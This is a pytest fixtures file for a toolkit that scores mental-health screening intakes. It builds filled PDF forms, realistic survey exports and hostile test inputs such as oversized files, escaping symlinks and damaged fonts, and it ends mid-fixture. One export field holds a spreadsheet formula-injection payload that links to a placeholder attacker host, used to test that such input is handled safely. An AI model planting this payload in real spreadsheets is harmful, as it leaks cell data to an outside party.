"""Fixtures the whole suite shares.

Tests ask for what they need by name; nothing here is imported by a test module.

Running the command line
    ``run_cli``       ``toolkit ARGS`` in this process, exactly as the console script runs it
                      (``toolkit.cli.app.main``: same parsing, same exit-code mapping), stdout and
                      stderr captured; about 50 times faster than a subprocess.
    ``run_toolkit``   ``python -m toolkit ARGS`` as a real process (kill signals, a real pipe,
                      a fresh interpreter: the module-level import checks).
    ``with_default_sigint``  argv for a child that handles Ctrl-C as a terminal user's would, even
                      when this process ignores SIGINT (pytest-xdist workers and background jobs
                      do, and a child inherits an ignored signal).

Golden files
    ``problem_lines`` the problem lines of a refused run, with the "N problems found." count checked;
    ``update_goldens`` true when ``UPDATE_GOLDENS=1``: golden tests rewrite their files.

Nothing written
    ``snapshot`` (every file under a folder with a hash of its bytes) and
    ``assert_refused_cleanly`` (exit code, no traceback, the problem count).

Fillable forms (``make_form``, ``fill``, ``fill_answers``, ``export_of``) and real-shaped
exports (``real_exports``) are below; the hostile-input corpora, shared by the golden-file
tests of each stage and by tests/safety/test_hostile_inputs.py, are at the end, with the
``pytest_generate_tests`` hook that parametrises a test over a corpus it names.
"""

from __future__ import annotations

import contextlib
import functools
import hashlib
import io
import os
import random
import re
import signal
import struct
import subprocess
import sys
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

import pytest
from pypdf import PdfReader, PdfWriter
from pypdf.generic import ArrayObject, DictionaryObject, NameObject, NumberObject, TextStringObject

ROOT = Path(__file__).resolve().parent.parent
DATA = Path(__file__).resolve().parent / "data"
EXAMPLES = ROOT / "examples" / "intakes"


# --- running the command line ----------------------------------------------------------------

@dataclass
class CliResult:
    returncode: int
    stdout: str
    stderr: str


def _run_cli(*args: object, cwd: Path | None = None) -> CliResult:
    """``toolkit ARGS`` in-process; never lets an exception escape unnoticed (a traceback
    would mean ``main`` let one through, which the tests treat as a bug)."""
    from toolkit.cli.app import main

    out, err = io.StringIO(), io.StringIO()
    old_argv, old_cwd = sys.argv, os.getcwd()
    old_sigterm = signal.getsignal(signal.SIGTERM)  # main() installs its own handler
    sys.argv = ["toolkit", *(str(a) for a in args)]
    code: int | None = None
    try:
        if cwd is not None:
            os.chdir(cwd)
        with contextlib.redirect_stdout(out), contextlib.redirect_stderr(err):
            try:
                main()
                code = 0
            except SystemExit as exc:
                code = exc.code if isinstance(exc.code, int) else (0 if exc.code is None else 1)
    finally:
        sys.argv = old_argv
        os.chdir(old_cwd)
        if old_sigterm is not None:  # None: a handler installed outside Python, left alone
            signal.signal(signal.SIGTERM, old_sigterm)
    return CliResult(code, out.getvalue(), err.getvalue())


@pytest.fixture(scope="session")
def run_cli() -> Callable[..., CliResult]:
    """``run_cli(*args, cwd=None) -> CliResult(returncode, stdout, stderr)``, in this process."""
    return _run_cli


# Runs argv[1:] with SIGINT back at its default, so that the Python child installs its
# KeyboardInterrupt handler (Python leaves an inherited SIG_IGN alone).
_DEFAULT_SIGINT = ("import os, signal, sys; signal.signal(signal.SIGINT, signal.SIG_DFL); "
                   "os.execv(sys.argv[1], sys.argv[1:])")


def _with_default_sigint(argv: list) -> list:
    return [sys.executable, "-c", _DEFAULT_SIGINT, *(str(a) for a in argv)]


@pytest.fixture(scope="session")
def with_default_sigint() -> Callable[[list], list]:
    """``with_default_sigint([sys.executable, ...]) -> argv``: the same command, started with
    SIGINT at its default disposition (an exec in place: same pid, session and process group)."""
    return _with_default_sigint


def _toolkit_env() -> dict[str, str]:
    return {**os.environ, "PYTHONIOENCODING": "utf-8", "COLUMNS": "200"}


def _run_toolkit(*args: object, cwd: Path | None = None, timeout: int = 120) -> subprocess.CompletedProcess:
    return subprocess.run([sys.executable, "-m", "toolkit", *(str(a) for a in args)], cwd=cwd,
                          capture_output=True, text=True, env=_toolkit_env(), timeout=timeout)


@pytest.fixture(scope="session")
def run_toolkit() -> Callable[..., subprocess.CompletedProcess]:
    """``run_toolkit(*args, cwd=None, timeout=120) -> CompletedProcess``: ``python -m toolkit``
    in a real process (UTF-8 output, 200 columns)."""
    return _run_toolkit


# --- golden files --------------------------------------------------------------------------------

@pytest.fixture(scope="session")
def update_goldens() -> bool:
    """``UPDATE_GOLDENS=1 pytest ...`` rewrites the golden files instead of comparing."""
    return os.environ.get("UPDATE_GOLDENS") == "1"


def _problem_lines(result) -> list[str]:
    """stderr lines without the final "N problem(s) found." summary, which is checked here."""
    lines = result.stderr.splitlines()
    assert lines, "no problems printed"
    n = len(lines) - 1
    more = re.fullmatch(r"\.\.\. and (\d+) more problems?", lines[-2]) if n > 1 else None
    if more:  # past the first 100 problems, only their number (toolkit.core.errors.MAX_SHOWN)
        n += int(more.group(1)) - 1
    assert lines[-1] == f"{n} problem{'s' if n != 1 else ''} found.", lines[-1]
    return lines[:-1]


@pytest.fixture(scope="session")
def problem_lines() -> Callable[..., list[str]]:
    """``problem_lines(result)`` for a ``run_cli`` or ``run_toolkit`` result."""
    return _problem_lines


# --- nothing written ------------------------------------------------------------------------------

def _snapshot(folder: Path) -> dict[str, str]:
    found = {}
    for path in sorted(folder.rglob("*")):
        rel = str(path.relative_to(folder))
        if path.is_symlink() or path.is_dir():
            found[rel] = "<dir>" if path.is_dir() else "<link>"
        else:
            found[rel] = hashlib.sha256(path.read_bytes()).hexdigest()
    return found


@pytest.fixture(scope="session")
def snapshot() -> Callable[[Path], dict[str, str]]:
    """``snapshot(folder)``: every file under it (hidden ones too) with a hash of its bytes,
    to prove that a failing run left the folder exactly as it was."""
    return _snapshot


def _assert_refused_cleanly(result: CliResult, *, code: int = 1) -> list[str]:
    assert "Traceback" not in result.stderr, result.stderr
    assert result.returncode == code, (result.returncode, result.stderr)
    lines = result.stderr.splitlines()
    assert lines, "no message"
    if code == 1:
        n = len(lines) - 1
        assert n >= 1 and lines[-1] == f"{n} problem{'s' if n != 1 else ''} found.", lines
        assert "internal error" not in result.stderr, result.stderr
        return lines[:-1]
    return lines


@pytest.fixture(scope="session")
def assert_refused_cleanly() -> Callable[..., list[str]]:
    """``assert_refused_cleanly(result, code=1) -> lines``: that exit code, no traceback, and
    (for code 1) problem lines then "N problem(s) found."; returns the problem lines."""
    return _assert_refused_cleanly


# --- fillable forms, filled the way a PDF viewer fills them ---------------------------------------

@functools.cache
def _catalog():
    from toolkit.content.catalog import Catalog

    return Catalog(None)


def _render_form(screener_ids: tuple[str, ...], fillable: bool, catalog, branding) -> bytes:
    from toolkit.documents.handout import Branding
    from toolkit.render.form import render_form

    return render_form([catalog.get(s) for s in screener_ids], branding=branding or Branding("Test practice"),
                       catalog=catalog, fillable=fillable)


@functools.cache
def _default_form(screener_ids: tuple[str, ...], fillable: bool) -> bytes:
    return _render_form(screener_ids, fillable, _catalog(), None)


def _make_form(*screener_ids: str, fillable: bool = True, catalog=None, branding=None) -> bytes:
    if catalog is None and branding is None:
        return _default_form(screener_ids, fillable)
    return _render_form(screener_ids, fillable, catalog or _catalog(), branding)


@pytest.fixture(scope="session")
def make_form() -> Callable[..., bytes]:
    """``make_form(*screener_ids, fillable=True, catalog=None, branding=None) -> bytes``.

    A form of the built-in screeners with the default branding is rendered once per test
    process and reused: rendering is deterministic (tests/render/test_form.py renders twice
    and compares the bytes, without this cache)."""
    return _make_form


def _export_of(screener, item_id: str, value) -> str:
    from toolkit.intake.form_names import export_names

    options = screener.scale_of(item_id)
    return export_names(options)[[o.value for o in options].index(value)]


@pytest.fixture(scope="session")
def export_of() -> Callable[..., str]:
    """``export_of(screener, item_id, value)``: the radio export name of an option value."""
    return _export_of


def _fill(pdf: bytes, ticks: dict[str, str | None], texts: dict[str, str], *,
          as_text: bool = False, appearance: bool = False) -> bytes:
    writer = PdfWriter(clone_from=PdfReader(io.BytesIO(pdf)))
    for ref in writer._root_object["/AcroForm"]["/Fields"]:
        f = ref.get_object()
        name = str(f["/T"])
        if name in ticks and ticks[name] is not None and "/Kids" not in f:  # a single check box
            on = [s for s in f["/AP"]["/N"] if s != "/Off"][0]
            f[NameObject("/V")] = f[NameObject("/AS")] = NameObject(on)
        elif name in ticks and ticks[name] is not None:
            export = ticks[name]
            f[NameObject("/V")] = TextStringObject(export) if as_text else NameObject("/" + export)
            for kid in f["/Kids"]:
                kid = kid.get_object()
                on = [s for s in kid["/AP"]["/N"] if s != "/Off"][0]
                kid[NameObject("/AS")] = NameObject(on if on == "/" + export else "/Off")
        elif name in texts and not appearance:
            f[NameObject("/V")] = TextStringObject(texts[name])
    if appearance and texts:
        for page in writer.pages:
            writer.update_page_form_field_values(page, texts, auto_regenerate=False)
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


@pytest.fixture(scope="session")
def fill() -> Callable[..., bytes]:
    """``fill(pdf, ticks, texts, *, as_text=False, appearance=False) -> bytes``: tick radio
    groups (field name -> export name, None leaves it blank) by setting /V on the group and
    /AS on its buttons, as a viewer does; fill text fields.  ``as_text`` writes /V as a text
    string (as some tools do) instead of a name; ``appearance`` lets pypdf draw the text
    fields' new values."""
    return _fill


def _fill_answers(pdf: bytes, answers: dict[str, dict[str, object]], client_id: str = "C-0042",
                  date: str = "2026-11-21", name: str | None = None, catalog=None, **kw) -> bytes:
    from toolkit.intake.form_names import item_field

    catalog = catalog or _catalog()
    ticks = {}
    for sid, items in answers.items():
        s = catalog.get(sid)
        for item_id, value in items.items():
            ticks[item_field(sid, item_id)] = _export_of(s, item_id, value)
    texts = {"client_id": client_id, "date": date}
    if name is not None:
        texts["client_name"] = name
    return _fill(pdf, ticks, texts, **kw)


@pytest.fixture(scope="session")
def fill_answers() -> Callable[..., bytes]:
    """``fill_answers(pdf, {screener: {item: value}}, client_id="C-0042", date="2026-11-21",
    name=None, catalog=None, **fill_options) -> bytes``: a form filled with option values."""
    return _fill_answers


# --- real-shaped exports ----------------------------------------------------------------------------

class RealExports:
    """The files a practice would download, written as the real services write them: a Google
    Forms response sheet (Timestamp, question text with grid brackets, answer labels), a REDCap
    raw record export (record_id, events, a repeating instrument, raw codes, ``*_complete``), a
    Qualtrics export (three header rows, codes from 1, recoded by the mapping) and our own CSV.
    Each carries a byte-order mark, a quoted line break, blank rows, a duplicated client id on
    the same date (and the same id on another date, which is history, not a duplicate) and a
    free-text answer that looks like a spreadsheet formula.

    ``make(fmt, folder) -> (export path, mapping path or None)``."""

    FORMATS = ("google-forms", "qualtrics", "redcap", "toolkit")
    FORMULA = '=HYPERLINK("http://evil.example/?q="&A1,"click me")'
    PHQ9_STEM = "Over the last 2 weeks, how often have you been bothered by any of the following problems?"
    GAD7_STEM = "Over the last 2 weeks, how often have you been bothered by the following problems?"
    # (client id, name, date, birth date, phq9 q1-q9, gad7 q1-q7, asq q1-q5)
    CLIENTS = [
        ("C-0001", "Ana López", "2026-11-20", "1990-04-02", [1, 2, 1, 2, 0, 1, 1, 0, 0], [1, 1, 2, 1, 0, 1, 0],
         ["no", "no", "no", "no", None]),
        ("C-0002", "Ben Okafor", "2026-11-20", "1985-12-30", [3, 3, 2, 3, 2, 2, 1, 1, 1], [2, 2, 3, 2, 1, 2, 2],
         ["yes", "no", "no", "no", "no"]),
        ("C-0003", "Chloé \"Coco\" Martin", "2026-11-20", "2001-07-15", [0, 0, 0, 1, 0, 0, 0, 0, 0],
         [0, 0, 1, 0, 0, 0, 0], ["no", "no", "no", "no", None]),
        ("C-0001", "Ana López", "2026-11-27", "1990-04-02", [1, 1, 1, 1, 0, 0, 1, 0, 0], [1, 0, 1, 1, 0, 0, 0],
         ["no", "no", "no", "no", None]),  # same client, a week later: history
    ]
    DUPLICATE = ("C-0002", "Ben Okafor", "2026-11-20", "1985-12-30", [0] * 9, [0] * 7, ["no"] * 4 + [None])
    FREQ = ["Not at all", "Several days", "More than half the days", "Nearly every day"]
    ASQ_LABEL = {"yes": "Yes", "no": "No", "declined": "Declined to answer", None: ""}
    ASQ_CODE = {"yes": "1", "no": "2", "declined": "3", None: ""}
    QUALTRICS_META = ["StartDate", "EndDate", "Status", "IPAddress", "Progress", "Duration (in seconds)",
                      "Finished", "RecordedDate", "ResponseId", "RecipientLastName", "RecipientFirstName",
                      "RecipientEmail", "ExternalReference", "LocationLatitude", "LocationLongitude",
                      "DistributionChannel", "UserLanguage"]

    def __init__(self, catalog):
        import json

        self.catalog = catalog
        texts = {sid: [it.text for it in catalog.get(sid).items] for sid in ("phq9", "gad7", "asq")}
        self.PHQ9, self.GAD7, self.ASQ = texts["phq9"][:9], texts["gad7"][:7], texts["asq"]
        phq9, gad7 = self.PHQ9_STEM, self.GAD7_STEM
        self.GOOGLE_MAPPING = (
            "format: google-forms\n"
            "client: {id: Client ID, name: Full name, date_of_birth: Date of birth, date_of_birth_format: MM/DD/YYYY}\n"
            "date: {column: Timestamp, format: YYYY/MM/DD}\ncolumns:\n"
            + "".join(f'  "{phq9} [{t}]": phq9.q{i}\n' for i, t in enumerate(self.PHQ9, 1))
            + "".join(f'  "{gad7} [{t}]": gad7.q{i}\n' for i, t in enumerate(self.GAD7, 1))
            + "".join(f'  {json.dumps(t)}: asq.q{i}\n' for i, t in enumerate(self.ASQ, 1)))
        self.REDCAP_MAPPING = (
            "format: redcap\nclient: {id: record_id, date_of_birth: dob}\n"
            "date: {column: intake_date, format: YYYY-MM-DD}\ncolumns:\n"
            + "".join(f"  phq9_{i}: phq9.q{i}\n" for i in range(1, 10))
            + "".join(f"  gad7_{i}: gad7.q{i}\n" for i in range(1, 8))
            + "".join(f"  asq_{i}: asq.q{i}\n" for i in range(1, 6))
            + 'recode:\n  scales:\n    asq.yes_no_declined: {1: "yes", 2: "no", 3: declined}\n')
        self.QUALTRICS_MAPPING = (
            "format: qualtrics\nclient: {id: Q1, name: Q2}\ndate: {column: RecordedDate, format: YYYY-MM-DD}\n"
            "columns:\n"
            + "".join(f"  QID3_{i}: phq9.q{i}\n" for i in range(1, 10))
            + "".join(f"  QID4_{i}: gad7.q{i}\n" for i in range(1, 8))
            + "".join(f"  QID5_{i}: asq.q{i}\n" for i in range(1, 6))
            + "recode:\n  scales:\n    phq9.frequency: {1: 0, 2: 1, 3: 2, 4: 3}\n"
              "    gad7.frequency: {1: 0, 2: 1, 3: 2, 4: 3}\n  columns:\n"
            + "".join(f'    QID5_{i}: {{1: "yes", 2: "no", 3: declined}}\n' for i in range(1, 6)))
        self.writers = {
            "google-forms": (self.write_google_forms, self.GOOGLE_MAPPING),
            "redcap": (self.write_redcap, self.REDCAP_MAPPING),
            "qualtrics": (self.write_qualtrics, self.QUALTRICS_MAPPING),
            "toolkit": (self.write_toolkit, None),
        }
        assert sorted(self.writers) == list(self.FORMATS)

    @staticmethod
    def _write(path: Path, rows: list[list[str]], *, blank_after: tuple[int, ...] = ()) -> Path:
        """CSV with a BOM and CRLF, as spreadsheet programs write it; blank rows after the given rows."""
        import csv

        buf = io.StringIO()
        writer = csv.writer(buf, lineterminator="\r\n")
        for i, row in enumerate(rows):
            writer.writerow(row)
            if i in blank_after:
                buf.write("," * (len(row) - 1) + "\r\n")
                buf.write("\r\n")
        path.write_bytes(b"\xef\xbb\xbf" + buf.getvalue().encode("utf-8"))
        return path

    def _note(self, i: int) -> str:
        return self.FORMULA if i == 1 else ("Line one\nline two, with a comma" if i == 0 else "")

    def _people(self, clients, duplicate: bool) -> list:
        return list(self.CLIENTS if clients is None else clients) + ([self.DUPLICATE] if duplicate else [])

    def write_google_forms(self, path: Path, clients=None, duplicate=True) -> Path:
        header = (["Timestamp", "Client ID", "Full name", "Date of birth"]
                  + [f"{self.PHQ9_STEM} [{t}]" for t in self.PHQ9]
                  + [f"{self.GAD7_STEM} [{t}]" for t in self.GAD7]
                  + self.ASQ + ["Anything else you would like us to know?", "How did you hear about us?"])
        rows = [header]
        for i, (cid, name, date, dob, phq, gad, asq) in enumerate(self._people(clients, duplicate)):
            y, m, d = date.split("-")
            stamp = f"{y}/{m}/{d} {9 + i % 3}:{i % 60:02d}:03 AM GMT"
            by, bm, bd = dob.split("-")
            rows.append([stamp, cid, name, f"{bm}/{bd}/{by}"] + [self.FREQ[v] for v in phq]
                        + [self.FREQ[v] for v in gad] + [self.ASQ_LABEL[a] for a in asq]
                        + [self._note(i), "A friend"])
        return self._write(path, rows, blank_after=(2,))

    def write_redcap(self, path: Path, clients=None, duplicate=True) -> Path:
        header = (["record_id", "redcap_event_name", "redcap_repeat_instrument", "redcap_repeat_instance",
                   "intake_date", "dob"] + [f"phq9_{i}" for i in range(1, 10)] + ["phq9_complete"]
                  + [f"gad7_{i}" for i in range(1, 8)] + ["gad7_complete"]
                  + [f"asq_{i}" for i in range(1, 6)] + ["notes", "medication_name", "medications_complete"])
        width = len(header)
        rows = [header]
        people = self._people(clients, duplicate)
        for i, (cid, _name, date, dob, phq, gad, asq) in enumerate(people):
            event = "intake_arm_1" if i < 3 or i == len(people) - 1 else "week_1_arm_1"
            rows.append([cid, event, "", "", date, dob] + [str(v) for v in phq] + ["2"] + [str(v) for v in gad]
                        + ["2"] + [self.ASQ_CODE[a] for a in asq] + [self._note(i), "", ""])
            if i == 0:  # a repeating instrument row this mapping does not read: skipped, not an error
                rows.append([cid, event, "medications", "1"] + [""] * (width - 6) + ["sertraline", "2"])
                # and an event without the intake instruments (longitudinal projects): skipped too
                rows.append([cid, "week_4_arm_1", "", ""] + [""] * (width - 4))
        return self._write(path, rows, blank_after=(1,))

    def write_qualtrics(self, path: Path, clients=None, duplicate=True) -> Path:
        import json

        meta_ids = self.QUALTRICS_META
        ids = (meta_ids + ["Q1", "Q2"] + [f"QID3_{i}" for i in range(1, 10)]
               + [f"QID4_{i}" for i in range(1, 8)] + [f"QID5_{i}" for i in range(1, 6)] + ["Q6"])
        questions = (meta_ids[:5] + ["Duration (in seconds)"] + meta_ids[6:]
                     + ["Client ID", "What is your name?"]
                     + [f"{self.PHQ9_STEM} - {t}" for t in self.PHQ9] + [f"{self.GAD7_STEM} - {t}" for t in self.GAD7]
                     + [f"Ask Suicide-Screening Questions - {t}" for t in self.ASQ]
                     + ["Anything else you would\nlike us to know?"])
        imports = [json.dumps({"ImportId": i if i.startswith("Q") else i.lower()}, separators=(",", ":"))
                   for i in ids]
        rows = [ids, questions, imports]
        for i, (cid, name, date, _dob, phq, gad, asq) in enumerate(self._people(clients, duplicate)):
            stamp = f"{date} 09:{10 + i % 50}:00"
            meta = [stamp, stamp, "IP Address", "192.0.2.1", "100", "300", "True", stamp, f"R_{i:015d}",
                    "", "", "", "", "", "", "anonymous", "EN"]
            rows.append(meta + [cid, name] + [str(v + 1) for v in phq] + [str(v + 1) for v in gad]
                        + [self.ASQ_CODE[a] for a in asq] + [self._note(i)])
        return self._write(path, rows, blank_after=(4,))

    def write_toolkit(self, path: Path, clients=None, duplicate=True) -> Path:
        header = (["client_id", "client_name", "client_date_of_birth", "date"]
                  + [f"phq9.q{i}" for i in range(1, 10)] + [f"gad7.q{i}" for i in range(1, 8)]
                  + [f"asq.q{i}" for i in range(1, 6)])
        rows = [header]
        for cid, name, date, dob, phq, gad, asq in self._people(clients, duplicate):
            rows.append([cid, name, dob, date] + [str(v) for v in phq] + [str(v) for v in gad]
                        + [a or "" for a in asq])
        return self._write(path, rows, blank_after=(1,))

    def make(self, fmt: str, folder: Path, **kwargs) -> tuple[Path, Path | None]:
        write, mapping = self.writers[fmt]
        export = write(folder / f"{fmt}-export.csv", **kwargs)
        mapping_path = None
        if mapping is not None:
            mapping_path = folder / f"{fmt}-mapping.yaml"
            mapping_path.write_text(mapping, encoding="utf-8")
        return export, mapping_path


@pytest.fixture(scope="session")
def real_exports() -> RealExports:
    """Writers of real-shaped exports of every format (see :class:`RealExports`)."""
    return RealExports(_catalog())


# --- the hostile-input corpora ------------------------------------------------------------------------
#
# One definition of each corpus, used by the golden-file test of its stage (the exact problem
# lines, with a command that writes nothing) and by tests/safety/test_hostile_inputs.py (the
# same case through a command that WRITES a file: nothing may be written).
# ``benchmarks/count_hostile.py`` counts the cases the hostile suite collects, per surface.
#
# ==========================  ===================================================================
# screener YAML               tests/data/broken_screeners/*.yaml           ``screener_case``
# intake files                tests/data/bad_intakes/*                     ``intake_file``
#                             + made at run time (``runtime_intakes``)      ``runtime_intake``
# CSV exports and mappings    made at run time (``bad_exports``; goldens    ``export_case``
#                             in tests/data/exports/bad/)
# filled PDF forms            made at run time (``bad_forms``; goldens in   ``form_case``
#                             tests/data/bad_forms/)
# practice folders, images    tests/data/broken_practices/*/ (``broken_practices`` makes the
#                             escaping links)                              ``practice_case``
#                             + damaged fonts made at run time             ``damaged_font``
#                             (``damaged_fonts``)
# templates                   tests/data/broken_handouts/*.yaml and */     ``handout_file_case``,
#                             (overlay folders)                            ``handout_folder_case``
# ==========================  ===================================================================

def _stems(folder: str, pattern: str) -> list[str]:
    return sorted(p.stem for p in (DATA / folder).glob(pattern))


def _folders(folder: str) -> list[str]:
    return sorted(p.name for p in (DATA / folder).iterdir() if p.is_dir())


# intakes made at run time: files awkward to commit (20 MB, 2 MB, not UTF-8, a NUL byte, a
# folder, a missing file), each with the exact lines ``toolkit score <name>`` prints
_PHQ2_HEADER = "client_id,client_name,date,phq2.q1,phq2.q2\n"
_GOOD_YAML = "client:\n  id: C-0001\n  name: {name}\ndate: 2026-11-20\nanswers:\n  phq2: {{q1: 1, q2: 1}}\n"


def _big_csv(path: Path) -> None:
    """Rows until the file reaches 20 MiB: the header, then the first row that takes it there."""
    limit = 20 * 1024 * 1024
    row = "C-{:06d},Test Client,2026-11-20,1,1\n"
    rows = -(-(limit - len(_PHQ2_HEADER)) // len(row.format(0)))  # all rows are as long (i < 10**6)
    path.write_text(_PHQ2_HEADER + "".join(row.format(i) for i in range(rows)), encoding="utf-8")
    assert limit <= path.stat().st_size < limit + len(row.format(0))


def _big_yaml(path: Path) -> None:
    notes = "".join(f"# padding line {i:07d} .................................\n" for i in range(36_000))
    path.write_text(notes + _GOOD_YAML.format(name="Test Client"), encoding="utf-8")
    assert path.stat().st_size > 2_000_000


def _writes(text: str, encoding: str = "utf-8") -> Callable[[Path], None]:
    return lambda path: path.write_bytes(text.encode(encoding))


RUNTIME_INTAKES: dict[str, tuple[Callable[[Path], None], list[str]]] = {
    "big-20mb.csv": (_big_csv, ["big-20mb.csv:1:1  file is larger than the 10 MiB limit for one CSV"]),
    "big-2mb.yaml": (_big_yaml, ["big-2mb.yaml:1:1  file is larger than the 1024 KiB limit"]),
    "latin1.csv": (_writes(_PHQ2_HEADER + "C-0001,Test Client,2026-11-20,1,1\nC-0002,José Núñez,2026-11-20,1,1\n",
                           "latin-1"),
                   ["latin1.csv:3:1  file is not UTF-8 text; export or save it as 'CSV UTF-8'"]),
    "utf16.csv": (_writes(_PHQ2_HEADER + "C-0001,Test Client,2026-11-20,1,1\n", "utf-16"),
                  ["utf16.csv:1:1  file is not UTF-8 text; export or save it as 'CSV UTF-8'"]),
    "latin1.yaml": (_writes(_GOOD_YAML.format(name="José"), "latin-1"),
                    ["latin1.yaml:3:12  file is not valid UTF-8 text"]),
    "nul-byte.csv": (_writes(_PHQ2_HEADER + "C-0001,Test Client,2026-11-20,1,1\nC-0002,Te\x00st,2026-11-20,1,1\n"),
                     ["nul-byte.csv:3:1  file contains a NUL character; is it really a CSV file?"]),
    "nul-byte.yaml": (_writes(_GOOD_YAML.format(name="Te\x00st")),
                      ["nul-byte.yaml:3:11  file contains a NUL character; is it really text?"]),
    "folder.yaml": (lambda path: path.mkdir(), ["folder.yaml  is a folder, not a file"]),
    "folder.csv": (lambda path: path.mkdir(), ["folder.csv  is a folder, not a file"]),
    "missing.yaml": (lambda path: None, ["missing.yaml  file not found"]),
    "missing.csv": (lambda path: None, ["missing.csv  file not found"]),
    "missing.json": (lambda path: None, ["missing.json  file not found"]),
    "no-extension": (_writes(_GOOD_YAML.format(name="Test Client")),
                     ["no-extension  unknown intake file type; use .yaml, .yml, .json, .csv or .pdf"]),
}


@pytest.fixture(scope="session")
def runtime_intakes() -> dict[str, tuple[Callable[[Path], None], list[str]]]:
    """name -> (make(path), the exact problem lines ``toolkit score <name>`` prints)."""
    return RUNTIME_INTAKES


class BrokenPractices:
    """tests/data/broken_practices/<case>/: a practice folder broken in one way.  Links that
    escape the folder are not committed: the cases in ``SYMLINKS`` are copied into a
    temporary folder and the link is made there, outside pointing outside."""

    DIR = DATA / "broken_practices"
    # case -> (link inside the case folder, where it points, relative to the link's folder)
    SYMLINKS = {
        "logo-symlink-escape": ("logo.png", "../outside/logo.png"),
        "font-symlink-escape": ("fonts/Linked.ttf", "../../outside/Linked.ttf"),
    }

    def prepare(self, case: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
        """Run from the corpus folder, or from a copy with its escaping link made."""
        import shutil

        if case not in self.SYMLINKS:
            monkeypatch.chdir(self.DIR)
            return
        shutil.copytree(self.DIR / case, tmp_path / case)
        outside = tmp_path / "outside"
        outside.mkdir()
        shutil.copy(self.DIR / "logo-not-image" / "logo.png", outside / "logo.png")
        (outside / "Linked.ttf").write_bytes(b"not a font either\n")
        link, target = self.SYMLINKS[case]
        (tmp_path / case / link).symlink_to(target)
        assert (tmp_path / case / link).exists()
        monkeypatch.chdir(tmp_path)


@pytest.fixture(scope="session")
def broken_practices() -> BrokenPractices:
    return BrokenPractices()


# TrueType fonts damaged at run time (issue 14, item 10): DejaVu Sans with one part broken
# the way a corrupted download or a hostile file breaks it.  Each case gives the bytes of
# fonts/Damaged.ttf; ``toolkit validate`` and ``toolkit handout`` must refuse it cleanly (exit
# 1, the font named) or use it, in bounded memory (tests/safety/test_damaged_fonts.py), and
# the hostile-input suite feeds each to ``toolkit handout`` (``PRACTICE_RUNTIME_CASES``).
DEJAVU = Path("/usr/share/fonts/truetype/dejavu/DejaVuSans.ttf")


class DamagedFonts:
    """``damaged_fonts.make(case) -> bytes``, for every case of ``DAMAGED_FONT_CASES`` (the
    ``damaged_font`` corpus, each refused) and ``random-flips-<seed>``."""

    @staticmethod
    def tables(data: bytes) -> dict[str, tuple[int, int, int]]:
        """tag -> (offset, length, where its directory record is)."""
        count = struct.unpack_from(">H", data, 4)[0]
        out = {}
        for i in range(count):
            rec = 12 + 16 * i
            offset, length = struct.unpack_from(">LL", data, rec + 8)
            out[data[rec:rec + 4].decode("latin-1")] = (offset, length, rec)
        return out

    def cmap12(self, data: bytes) -> int:
        """Where the format-12 character map ReportLab chooses for DejaVu Sans starts."""
        offset = self.tables(data)["cmap"][0]
        count = struct.unpack_from(">H", data, offset + 2)[0]
        for i in range(count):
            platform, encoding, sub = struct.unpack_from(">HHL", data, offset + 4 + 8 * i)
            if (platform, encoding) == (3, 10):
                assert struct.unpack_from(">H", data, offset + sub)[0] == 12
                return offset + sub
        raise AssertionError("no (3, 10) cmap in DejaVu Sans")

    @staticmethod
    def put(data: bytes, at: int, fmt: str, *values: int) -> bytes:
        out = bytearray(data)
        struct.pack_into(fmt, out, at, *values)
        return bytes(out)

    def composite(self, data: bytes) -> int:
        """Where the first composite glyph's first component glyph index sits."""
        t = self.tables(data)
        glyf, loca = t["glyf"][0], t["loca"][0]
        glyphs = struct.unpack_from(">H", data, t["maxp"][0] + 4)[0]
        for g in range(glyphs):
            start, end = struct.unpack_from(">LL", data, loca + 4 * g)  # DejaVu: long offsets
            if end - start > 10 and struct.unpack_from(">h", data, glyf + start)[0] < 0:
                return glyf + start + 12
        raise AssertionError("no composite glyph in DejaVu Sans")

    @staticmethod
    def flips(data: bytes, seed: int, n: int = 40) -> bytes:
        rng = random.Random(seed)
        out = bytearray(data)
        for _ in range(n):
            out[rng.randrange(12, len(out))] ^= rng.randrange(1, 256)
        return bytes(out)

    def _cases(self) -> dict[str, Callable[[bytes], bytes]]:
        t, put = self.tables, self.put
        return {
            # the case: one group of the character map claims two billion characters
            "cmap-group-huge": lambda d: put(d, self.cmap12(d) + 16 + 4, ">L", 0x7FFFFFFF),
            "cmap-group-all-unicode": lambda d: put(d, self.cmap12(d) + 16, ">LL", 0, 0x10FFFF),
            "cmap-group-backwards": lambda d: put(d, self.cmap12(d) + 16, ">LL", 0x100, 0x20),
            "cmap-bytes-flipped": lambda d: put(d, self.cmap12(d) + 40, ">QQQQ", *[0xFFFFFFFFFFFFFFFF] * 4),
            "cmap-groups-count-huge": lambda d: put(d, self.cmap12(d) + 12, ">L", 0x7FFFFFFF),
            "cmap-glyph-out-of-range": lambda d: put(d, self.cmap12(d) + 16 + 8, ">L", 0xFFFF0000),
            "cmap-offset-past-end": lambda d: put(d, t(d)["cmap"][0] + 4 + 8 * 4 + 4, ">L", 0x7FFFFF00),
            "table-offset-past-end": lambda d: put(d, t(d)["glyf"][2] + 8, ">L", len(d) + 4096),
            "table-length-huge": lambda d: put(d, t(d)["hmtx"][2] + 12, ">L", 0x7FFFFFFF),
            "truncated-half": lambda d: d[: len(d) // 2],
            "truncated-directory": lambda d: d[:40],
            "loca-past-glyf": lambda d: put(d, t(d)["loca"][0] + 4 * 100, ">L", 0x7FFFFFFF),
            "glyph-component-missing": lambda d: put(d, self.composite(d), ">H", 0xFFFE),
            "units-per-em-zero": lambda d: put(d, t(d)["head"][0] + 18, ">H", 0),
            "metrics-count-zero": lambda d: put(d, t(d)["hhea"][0] + 34, ">H", 0),
            "glyph-count-huge": lambda d: put(d, t(d)["maxp"][0] + 4, ">H", 0xFFFF),
            "name-records-count-huge": lambda d: put(d, t(d)["name"][0] + 2, ">H", 0xFFFF),
        }

    def make(self, case: str) -> bytes:
        """A case of ``DAMAGED_FONT_CASES`` (each must be refused), or ``random-flips-<seed>``:
        40 random bytes changed, which may also leave a font that works."""
        if case.startswith("random-flips-"):
            return self.flips(DEJAVU.read_bytes(), int(case.rpartition("-")[2]))
        return self._cases()[case](DEJAVU.read_bytes())


DAMAGED_FONT_CASES = sorted(DamagedFonts()._cases())


@pytest.fixture(scope="session")
def damaged_fonts() -> DamagedFonts:
